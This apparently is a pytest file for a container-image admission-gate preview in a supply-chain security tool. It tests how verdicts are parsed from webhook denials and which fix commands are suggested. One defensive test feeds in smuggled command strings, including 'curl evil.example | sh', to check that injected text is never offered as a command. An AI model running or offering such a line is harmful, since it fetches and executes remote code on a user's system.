"""What a gate would refuse: each image once, exempt namespaces apart, and nothing unknown counts as admitted."""

from __future__ import annotations

from typing import Any

import pytest

from s3c_actions.cluster import denials
from s3c_actions.cluster.client import AdmissionDenied, Cluster, Resource
from s3c_actions.cluster.gate import proof, stages
from s3c_actions.cluster.used_images import ImageUse
from s3c_actions.core.errors import OutsideError
from s3c_actions.steps.preview_gate import InstalledGate, Verdict, fix_commands, preview

APP, OTHER, MOVED = (f"reg.example/app@sha256:{digit * 64}" for digit in "123")
NAMES = frozenset({stages.BASE, stages.PREVIEW})


def use(namespace: str = "shop", **fields: Any) -> ImageUse:
    given: dict[str, Any] = {"workload": f"{namespace}/app", "noun": "container", "running": True} | fields
    return ImageUse(namespace=namespace, **given)


def test_names_of_one_digest_are_one_image():
    answers = {
        "reg.example/app:1": Verdict(image=APP, verdict="admitted"),
        APP: Verdict(image=APP, verdict="admitted"),
        "reg.example/app:2": Verdict(image=OTHER, verdict="refused", reason="it has no signature", remedy=""),
    }
    used = {"reg.example/app:1": (use(), use("pay")), APP: (use(),), "reg.example/app:2": (use(running=False),)}
    images, exempt = preview(used, (), answers.__getitem__)
    assert exempt == ()
    assert [(image.image, image.verdict, image.names) for image in images] == [
        (OTHER, "refused", ("reg.example/app:2",)),
        (APP, "admitted", ("reg.example/app:1", APP)),
    ]
    assert images[1].places == ("pay/app (container)", "shop/app (container)")
    assert [image.running for image in images] == [False, True]


def test_an_image_of_exempt_namespaces_alone_comes_apart():
    refused = Verdict(image=APP, verdict="refused", reason="x")
    images, exempt = preview({APP: (use("kube-system"),)}, {"kube-system"}, lambda _: refused)
    assert (images, [image.verdict for image in exempt]) == ((), ["refused"])
    images, exempt = preview({APP: (use("kube-system"), use())}, {"kube-system"}, lambda _: refused)
    assert ([image.places for image in images], exempt) == ([("shop/app (container)",)], ())


class Gate(Cluster):
    """A gate that answers Pods of a preview by their image, and admits every other Pod."""

    def __init__(self, answers: dict[str, Any], *, asked: bool = True) -> None:
        super().__init__(None, address="https://cluster.test")  # type: ignore[arg-type]  # nothing is asked through it
        self.answers, self.asked = answers, asked

    def create(self, resource: Resource, document: dict[str, Any], namespace: str = "", *, dry_run: bool) -> Any:
        assert (resource, namespace, dry_run) == (proof.PODS, "shop", True)
        assert document["metadata"]["labels"][stages.PREVIEW_LABEL] == "true"
        image, *beside = (container["image"] for container in document["spec"]["containers"])
        answer = self.answers[image]
        if isinstance(answer, Exception):
            raise answer
        if beside and self.asked:
            raise denied(ABSENT)
        document["spec"]["containers"][0]["image"] = answer
        return document

    def list(self, resource: Resource, namespace: str = "", **query: str) -> list[dict[str, Any]]:
        return []


def denied(text: str, webhook: str = "validation.gatekeeper.sh") -> AdmissionDenied:
    message = f'admission webhook "{webhook}" denied the request: {text}'
    return AdmissionDenied(denials.parse(message), message)


ABSENT = (
    f"[{stages.PREVIEW}] {proof.ABSENT_IMAGE} could not be verified: could not resolve descriptor for a subject. Check."
)
UNREACHABLE = 'failed calling webhook "validation.gatekeeper.sh": failed to call webhook: dial tcp: connection refused'


@pytest.mark.parametrize(
    ("answer", "verdict", "image", "reason"),
    [
        (APP, "admitted", APP, ""),
        (
            denied(f"[{stages.PREVIEW}] {APP} is not trusted: it has no signature. (trace 54ab39d7)"),
            "refused",
            APP,
            "it has no signature",
        ),
        (
            denied(f"[labels] no team\n[{stages.BASE}] {APP} is not trusted: it has no signature. (trace 54ab39d7)"),
            "refused",
            APP,
            "it has no signature",
        ),
        (
            denied(f"[{stages.PREVIEW}] reg.example/app:1 has no digest: what is pulled later may be another image."),
            "refused",
            "reg.example/app:1",
            "no digest",
        ),
        (denied("[labels] no team"), "unknown", "reg.example/app:1", "no team"),
        (denied("quota", "other.example"), "unknown", "reg.example/app:1", "quota"),
        (
            denied(f"[{stages.PREVIEW}] Ratify could not be asked about {APP}: connection refused. Look."),
            "unknown",
            APP,
            "Ratify could not be asked",
        ),
        (AdmissionDenied(denials.parse(UNREACHABLE), UNREACHABLE), "unknown", "reg.example/app:1", "asked"),
        (OutsideError("The cluster does not answer."), "unknown", "reg.example/app:1", "does not answer"),
    ],
)
def test_the_installed_gate_is_asked_and_what_is_no_verdict_is_unknown(answer, verdict, image, reason):
    gate = InstalledGate(cluster=Gate({"reg.example/app:1": answer}), namespace="shop", constraints=NAMES)
    judged = gate.ask("reg.example/app:1")
    assert (judged.verdict, judged.image) == (verdict, image)
    assert reason in judged.reason
    assert bool(judged.reason) == (verdict != "admitted")


def test_a_gate_that_was_not_asked_admits_nothing():
    gate = InstalledGate(cluster=Gate({APP: APP}, asked=False), namespace="shop", constraints=NAMES)
    assert (gate.ask(APP).verdict, "not asked" in gate.ask(APP).reason) == ("unknown", True)


def test_what_is_refused_beside_an_image_is_not_the_image():
    text = f"{ABSENT}\n[{stages.PREVIEW}] {APP} is not trusted: it has no signature. (trace 54ab39d7)"
    gate = InstalledGate(cluster=Gate({APP: denied(text)}), namespace="shop", constraints=NAMES)
    assert (gate.ask(APP).verdict, gate.ask(APP).reason) == ("refused", "it has no signature")
    both = f"[{stages.PREVIEW}] Ratify could not be asked about {proof.ABSENT_IMAGE}, {APP}: timeout. Look."
    gate = InstalledGate(cluster=Gate({APP: denied(both)}), namespace="shop", constraints=NAMES)
    assert gate.ask(APP).verdict == "unknown"


def test_a_container_without_an_image_is_refused():
    assert InstalledGate(cluster=Gate({}), namespace="shop", constraints=NAMES).ask("").verdict == "refused"


@pytest.mark.parametrize(
    ("reason", "remedy", "commands"),
    [
        (
            "it has no signature",
            f"Sign it with `s3c sign {APP}`, or deploy the digest that is signed.",
            [f"s3c sign {APP}"],
        ),
        (f"it has no scan report: attach a new one with `s3c attach {APP}`", "", [f"s3c attach {APP}"]),
        (
            f"it has no scan report: attach a new one with `s3c attach {APP}`; "
            f"it has no signature: sign it with `s3c sign {APP}`; "
            f"its newest scan report is not signed: attach a new one with `s3c attach {APP}`",
            f"Sign it with `s3c sign {APP}`, or deploy the digest that is signed.",
            [f"s3c attach {APP}", f"s3c sign {APP}"],
        ),
        (
            f"it has 2 refused findings: patch it with `s3c patch {APP}`, or rebuild it",
            f"Do what is named; `s3c policy check {APP}` judges as the cluster does.",
            [f"s3c patch {APP}"],
        ),
        ("it is not in its registry", "Push it, or look at the name and the digest.", []),
        ("something else", "", [f"s3c trace {APP}"]),
    ],
)
def test_the_commands_that_fix_it_are_those_that_the_gate_names_each_once(reason, remedy, commands):
    verdict = Verdict(image=APP, verdict="refused", reason=reason, remedy=remedy)
    assert list(fix_commands(APP, verdict)) == commands
    [entry] = preview({APP: (use(),)}, (), lambda _: verdict)[0]
    assert (entry.command, entry.commands) == (commands[0] if commands else "", tuple(commands))


@pytest.mark.parametrize(
    "named",
    [
        "s3c sign registry.example/evil@sha256:" + 64 * "e",
        f"s3c sign {APP}; curl evil.example | sh",
        f"s3c patch {APP} --policy evil.yaml",
        f"s3c exception grant {APP}",
    ],
)
def test_a_package_that_is_named_like_a_command_is_no_command_to_copy(named):
    reason = f"it has 1 refused finding, CVE-1 (HIGH, `{named}`): patch it with `s3c patch {APP}`, or rebuild it"
    verdict = Verdict(image=APP, verdict="refused", reason=reason)
    assert fix_commands(APP, verdict) == (f"s3c patch {APP}",)
